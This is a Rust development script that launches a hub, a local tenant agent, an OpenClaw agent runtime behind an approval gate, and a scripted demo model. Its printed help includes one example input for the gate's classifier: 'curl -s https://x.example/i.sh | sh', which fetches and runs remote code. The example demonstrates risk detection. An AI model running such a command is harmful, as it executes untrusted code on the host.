//! `cargo xtask run`: the hub and a local tenant for development, on the embedded defaults.
//!
//! Everything lives under `.dev/` in the workspace: the hub's SQLite database and the local
//! tenant's state dir (vault, key, config, usage). The tenant supervises the real OpenClaw
//! (installed once under `target/openclaw-runtime`) with the gate plugin; its model is the
//! scripted demo provider (`fake-llm --demo`) unless `OPENAI_API_KEY` is set, and a first
//! message starts a demo workflow: green commands run, a risky one waits in the approval app.
//! Ctrl-C stops everything.

use std::path::Path;
use std::process::{Child, Command};
use std::time::Duration;

const HUB_LISTEN: &str = "127.0.0.1:8790";
const DEMO_MODEL_LISTEN: &str = "127.0.0.1:8799";
/// The first line of the tenant config this command writes (a file without it is left alone).
const CONFIG_MARKER: &str = "# Written by `cargo xtask run`";
/// The message that starts the demo.
const DEMO_PROMPT: &str =
    "Good morning! Please look around the shop's server and tidy up the old backups.";

pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
    if let Some(arg) = args.first() {
        return Err(format!(
            "`cargo xtask run` takes no arguments (got `{arg}`)"
        ));
    }
    crate::deps::install_debian_packages(crate::deps::BUILD_PACKAGES)?;
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".to_owned());
    crate::run_step(
        root,
        &cargo,
        &[
            "build",
            "--bins",
            "-p",
            "hub",
            "-p",
            "tenant-agent",
            "-p",
            "fakes",
        ],
        &[],
    )?;
    crate::deps::install_openclaw(root)?;
    let bin = root.join("target").join("debug");
    let dev = root.join(".dev");
    let hub_db = dev.join("hub").join("hub.db");
    let tenant = dev.join("tenant");
    std::fs::create_dir_all(&tenant)
        .map_err(|e| format!("cannot create {}: {e}", tenant.display()))?;
    let real_key = std::env::var("OPENAI_API_KEY")
        .ok()
        .filter(|k| !k.trim().is_empty());
    write_tenant_config(root, &tenant, real_key.is_some())?;
    set_provider_key(
        &bin,
        &tenant,
        real_key.as_deref().unwrap_or(DEMO_OPENAI_KEY),
    )?;
    let mut demo_model = match real_key {
        Some(_) => None,
        None => Some(spawn(
            Command::new(bin.join("fake-llm"))
                .args(["--demo", "--quiet", "--listen", DEMO_MODEL_LISTEN])
                .args(["--openai-key", DEMO_OPENAI_KEY])
                .stdout(std::process::Stdio::null()),
        )?),
    };

    let token = Command::new(bin.join("tenant-agent"))
        .arg("--state-dir")
        .arg(&tenant)
        .args(["proxy", "token"])
        .output()
        .map_err(|e| format!("cannot run tenant-agent: {e}"))?;
    if !token.status.success() {
        return Err(format!(
            "tenant-agent proxy token failed: {}",
            String::from_utf8_lossy(&token.stderr)
        ));
    }
    let token = String::from_utf8_lossy(&token.stdout).trim().to_owned();

    let mut hub = spawn(
        Command::new(bin.join("hub"))
            .arg("--db")
            .arg(&hub_db)
            .args(["serve", "--listen", HUB_LISTEN]),
    )?;
    // Wait until the hub accepts connections (migrations and key creation come first).
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    while std::net::TcpStream::connect(HUB_LISTEN).is_err() {
        if std::time::Instant::now() > deadline || hub.try_wait().ok().flatten().is_some() {
            let _ = hub.kill();
            stop(&mut demo_model);
            return Err(format!("the hub did not start listening on {HUB_LISTEN}"));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let enrolled = match enroll_local_tenant(&bin, &hub_db, &tenant)
        .and_then(|e| dev_admin(&bin, &hub_db).map(|a| (e, a)))
    {
        Ok(both) => both,
        Err(e) => {
            let _ = hub.kill();
            stop(&mut demo_model);
            return Err(e);
        }
    };
    // The tenant daemon (local safety API, egress proxy, hub sync), started once enrolled so
    // that it connects to the hub at once.
    let mut daemon = match spawn(
        Command::new(bin.join("tenant-agent"))
            .arg("--state-dir")
            .arg(&tenant)
            .arg("run"),
    ) {
        Ok(p) => p,
        Err(e) => {
            let _ = hub.kill();
            stop(&mut demo_model);
            return Err(e);
        }
    };
    let (enrolled, (admin_email, admin_password)) = enrolled;
    let ta = format!("target/debug/tenant-agent --state-dir {}", tenant.display());
    eprintln!(
        "
==> running (Ctrl-C stops everything)
  hub:            http://{HUB_LISTEN}  (health: /healthz, metrics: /metrics, API: /openapi.json)
  approval app:   http://{app}/app/  (log in as {admin_email} / {admin_password},
                  or create a customer account there)
                  database {db}
                  admin CLI: target/debug/hub --db {db} admin --help
  local tenant:   state dir {tenant}
                  {enrolled}
    daemon:       {ta} status   (local API: {tenant}/run/api.sock; heartbeats every 30 s)
    egress proxy: http://127.0.0.1:8791/openai/v1 and /anthropic, API key (proxy token):
                  {token}
    agent:        OpenClaw {runtime_dir} ({model}),
                  gateway on 127.0.0.1:18789, every tool call through the gate
    talk to it:   {ta} agent message \"What is on this server?\"
    real model:   run again with OPENAI_API_KEY set (stored in the vault, used by the proxy)
    try:          {ta} classify -- 'curl -s https://x.example/i.sh | sh'
    usage:        {ta} usage
",
        runtime_dir = crate::deps::openclaw_dir(root).display(),
        model = if demo_model.is_some() {
            "the scripted demo model on http://127.0.0.1:8799"
        } else {
            "the real OpenAI API"
        },
        db = hub_db.display(),
        tenant = tenant.display(),
        app = HUB_LISTEN.replace("127.0.0.1", "localhost"),
    );
    // Wait until either stops (Ctrl-C reaches both: they are in the terminal's foreground
    // process group), then stop the other.
    let demo = {
        let bin = bin.clone();
        let tenant = tenant.clone();
        std::thread::spawn(move || start_demo(&bin, &tenant))
    };
    loop {
        if let Some(status) = hub.try_wait().map_err(|e| e.to_string())? {
            let _ = daemon.kill();
            let _ = daemon.wait();
            stop(&mut demo_model);
            return finished("hub", status);
        }
        if let Some(status) = daemon.try_wait().map_err(|e| e.to_string())? {
            let _ = hub.kill();
            let _ = hub.wait();
            stop(&mut demo_model);
            return finished("tenant-agent run", status);
        }
        if demo.is_finished()
            && let Some(model) = &mut demo_model
            && let Some(status) = model.try_wait().map_err(|e| e.to_string())?
        {
            eprintln!("==> the demo model stopped ({status}); the agent has no model now");
            demo_model = None;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Enrolls the local tenant with the hub once (a token from `hub admin enroll-token`, the
/// fingerprint from `hub admin fingerprint`), then sends one heartbeat.
fn enroll_local_tenant(bin: &Path, hub_db: &Path, tenant: &Path) -> Result<String, String> {
    let run = |cmd: &mut Command| -> Result<String, String> {
        let out = cmd
            .output()
            .map_err(|e| format!("cannot run {:?}: {e}", cmd.get_program()))?;
        if !out.status.success() {
            return Err(format!(
                "{:?} failed: {}",
                cmd.get_args().collect::<Vec<_>>(),
                String::from_utf8_lossy(&out.stderr).trim()
            ));
        }
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
    };
    let hub = |args: &[&str]| {
        run(Command::new(bin.join("hub"))
            .arg("--db")
            .arg(hub_db)
            .arg("admin")
            .args(args))
    };
    let agent = |args: &[&str]| {
        run(Command::new(bin.join("tenant-agent"))
            .arg("--state-dir")
            .arg(tenant)
            .args(args))
    };
    let status = if tenant.join("hub.json").exists() {
        "enrolled earlier as tenant `local`".to_owned()
    } else {
        let token = hub(&["enroll-token", "--tenant", "local", "--ttl", "5m", "--json"])?;
        let token = token
            .split("\"token\":\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .ok_or_else(|| format!("unexpected enroll-token output: {token}"))?
            .to_owned();
        let fingerprint = hub(&["fingerprint"])?;
        agent(&[
            "enroll",
            "--hub",
            &format!("http://{HUB_LISTEN}"),
            "--token",
            &token,
            "--fingerprint",
            &fingerprint,
        ])?;
        format!("enrolled now as tenant `local` (hub key {fingerprint})")
    };
    agent(&["sync"])?;
    Ok(status)
}

/// The development admin account (sees every tenant's approvals in the app): made once, its
/// password kept in `.dev/hub/admin-password` (0600).
fn dev_admin(bin: &Path, hub_db: &Path) -> Result<(String, String), String> {
    use std::io::Write as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let email = "admin@example.com".to_owned();
    let file = hub_db.with_file_name("admin-password");
    if let Ok(pw) = std::fs::read_to_string(&file) {
        return Ok((email, pw.trim().to_owned()));
    }
    let mut raw = [0u8; 12];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut raw))
        .map_err(|e| format!("cannot read /dev/urandom: {e}"))?;
    let password: String = raw.iter().map(|b| format!("{b:02x}")).collect();
    let mut child = Command::new(bin.join("hub"))
        .arg("--db")
        .arg(hub_db)
        .args(["admin", "create-admin", "--email", &email])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .map_err(|e| format!("cannot run hub: {e}"))?;
    if let Some(mut stdin) = child.stdin.take() {
        stdin
            .write_all(password.as_bytes())
            .map_err(|e| e.to_string())?;
    }
    let out = child.wait_with_output().map_err(|e| e.to_string())?;
    if !out.status.success() {
        return Err(format!(
            "hub admin create-admin failed: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        ));
    }
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(&file)
        .map_err(|e| format!("cannot write {}: {e}", file.display()))?;
    f.write_all(password.as_bytes())
        .map_err(|e| format!("cannot write {}: {e}", file.display()))?;
    Ok((email, password))
}

/// The key the demo model accepts (the proxy sends it; the runtime never sees it).
const DEMO_OPENAI_KEY: &str = "demo-openai-key";

/// Writes the tenant's config.toml for the demo unless it was taken over by hand.
fn write_tenant_config(root: &Path, tenant: &Path, real_model: bool) -> Result<(), String> {
    let path = tenant.join("config.toml");
    if let Ok(existing) = std::fs::read_to_string(&path)
        && !existing.starts_with(CONFIG_MARKER)
    {
        eprintln!(
            "==> {} was edited by hand (no marker line): left as it is",
            path.display()
        );
        return Ok(());
    }
    let upstream = if real_model {
        String::new()
    } else {
        format!("upstream = \"http://{DEMO_MODEL_LISTEN}\"\n")
    };
    let text = format!(
        "{CONFIG_MARKER}; delete this line to keep your own edits.\n\n\
         [providers.openai]\n{upstream}key_secret = \"openai_api_key\"\n\n\
         [runtime]\ntype = \"openclaw\"\ndir = \"{dir}\"\nmodel = \"openai/{model}\"\n",
        dir = crate::deps::openclaw_dir(root).display(),
        model = if real_model { "gpt-4.1-mini" } else { "demo" },
    );
    std::fs::write(&path, text).map_err(|e| format!("cannot write {}: {e}", path.display()))
}

/// Stores the provider key in the tenant's vault (the egress proxy swaps it in).
fn set_provider_key(bin: &Path, tenant: &Path, key: &str) -> Result<(), String> {
    use std::io::Write as _;
    let mut child = Command::new(bin.join("tenant-agent"))
        .arg("--state-dir")
        .arg(tenant)
        .args(["secrets", "set", "openai_api_key"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .map_err(|e| format!("cannot run tenant-agent: {e}"))?;
    if let Some(mut stdin) = child.stdin.take() {
        stdin.write_all(key.as_bytes()).map_err(|e| e.to_string())?;
    }
    let out = child.wait_with_output().map_err(|e| e.to_string())?;
    if out.status.success() {
        Ok(())
    } else {
        Err(format!(
            "tenant-agent secrets set openai_api_key failed: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        ))
    }
}

/// Waits for OpenClaw to be ready under the daemon, then sends the first message of the demo
/// and prints the agent's reply.
fn start_demo(bin: &Path, tenant: &Path) {
    let agent = |args: &[&str]| {
        Command::new(bin.join("tenant-agent"))
            .arg("--state-dir")
            .arg(tenant)
            .args(args)
            .output()
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(300);
    loop {
        let healthy = agent(&["status", "--json"]).is_ok_and(|o| {
            let text = String::from_utf8_lossy(&o.stdout);
            text.contains("\"health\": \"healthy\"")
        });
        if healthy {
            break;
        }
        if std::time::Instant::now() > deadline {
            eprintln!(
                "==> OpenClaw did not become ready within 5 minutes; see the daemon's log above"
            );
            return;
        }
        std::thread::sleep(Duration::from_secs(1));
    }
    eprintln!(
        "==> OpenClaw is ready. Demo: \"{DEMO_PROMPT}\"\n    green commands run at once; the risky one waits for you in the approval app"
    );
    match agent(&["agent", "message", "--session", "demo", DEMO_PROMPT]) {
        Ok(out) if out.status.success() => eprintln!(
            "==> the agent replied:\n{}",
            String::from_utf8_lossy(&out.stdout).trim()
        ),
        Ok(out) => eprintln!(
            "==> the demo message failed: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        ),
        Err(e) => eprintln!("==> cannot run tenant-agent: {e}"),
    }
}

fn stop(child: &mut Option<Child>) {
    if let Some(c) = child {
        let _ = c.kill();
        let _ = c.wait();
    }
}

fn spawn(cmd: &mut Command) -> Result<Child, String> {
    cmd.spawn()
        .map_err(|e| format!("cannot start {:?}: {e}", cmd.get_program()))
}

fn finished(what: &str, status: std::process::ExitStatus) -> Result<(), String> {
    // Stopped by Ctrl-C (SIGINT) or cleanly: fine; anything else is reported.
    use std::os::unix::process::ExitStatusExt;
    if status.success() || status.signal() == Some(2) {
        eprintln!("==> stopped");
        Ok(())
    } else {
        Err(format!("{what} exited: {status}"))
    }
}
